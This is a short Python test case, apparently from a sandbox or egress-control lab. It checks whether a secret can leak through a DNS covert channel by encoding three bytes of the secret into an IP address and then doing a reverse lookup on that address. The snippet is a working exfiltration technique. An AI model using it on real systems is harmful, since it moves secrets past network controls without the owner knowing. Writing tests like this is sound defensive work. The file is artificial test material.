"""asks whose an address is, with a secret in the address"""

SHAPE = "covert channels: reverse lookups are questions too"
PROMISE = "P24"
LAB = True
PYTHON = """
import socket
try:
    socket.gethostbyaddr("@ADDRESS@")
except OSError:
    pass
"""


def prepare(host):
    numbers = bytes.fromhex(host.secret[-6:])
    host.facts["ADDRESS"] = ".".join(["93", *map(str, numbers)])
    host.asked = ".".join([*map(str, reversed(numbers)), "93.in-addr.arpa"])


def succeeded(host, done):
    return host.arrived(host.asked)
